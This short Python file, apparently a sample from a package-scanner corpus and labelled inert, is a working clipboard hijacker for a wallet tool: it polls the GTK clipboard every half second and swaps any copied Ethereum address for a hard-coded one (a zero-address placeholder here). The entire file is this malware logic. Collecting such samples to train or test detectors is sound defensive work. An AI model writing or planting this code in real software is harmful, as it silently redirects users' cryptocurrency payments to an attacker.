# pkgguard corpus 347 (clipboard), modelled on [wallet-tools]; inert, never run.
import re

import gi

gi.require_version("Gtk", "3.0")
from gi.repository import Gdk, GLib, Gtk  # noqa: E402

OURS = "0x0000000000000000000000000000000000000000"
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
board = Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD)


def check():
    text = board.wait_for_text() or ""
    if ETH.match(text.strip()) and text.strip() != OURS:
        board.set_text(OURS, -1)
        board.store()
    return True


GLib.timeout_add(500, check)
Gtk.main()
